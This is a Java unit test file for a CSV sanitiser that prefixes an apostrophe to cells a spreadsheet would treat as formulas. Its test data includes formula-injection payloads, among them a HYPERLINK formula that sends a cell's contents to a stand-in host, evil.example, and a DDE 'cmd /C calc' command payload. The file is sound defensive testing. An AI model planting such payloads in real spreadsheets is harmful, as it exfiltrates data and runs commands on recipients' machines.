package dev.seveneight.query;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvCellTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "=",
        "\t=1",
        "\tplain",
        "\rplain",
        "\nplain",
        "  \tplain",
        " =1+1",
        "   -2+3",
        "\u00A0=1",
        "\u3000=1",
        "\uFEFF=1",
        "\u200B=1",
        "\u0000=1",
        "\uFF1D1",
        "\uFF0B1",
        "\uFF0D1",
        "\uFF201",
        " \uFF1D1",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
        "-2+3+cmd|' /C calc'!A0"
      })
  void shouldPutAnApostropheBeforeWhatASpreadsheetWouldRun(String text) {
    assertThat(CsvCell.harmless(text)).isEqualTo("'" + text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        " ",
        "   ",
        "Good",
        " Good",
        "1+1=2",
        "a@example.com",
        "'=1",
        "\"=1",
        "ä=",
        "😀"
      })
  void shouldLeaveEverythingElseAsItIs(String text) {
    assertThat(CsvCell.harmless(text)).isEqualTo(text);
  }
}
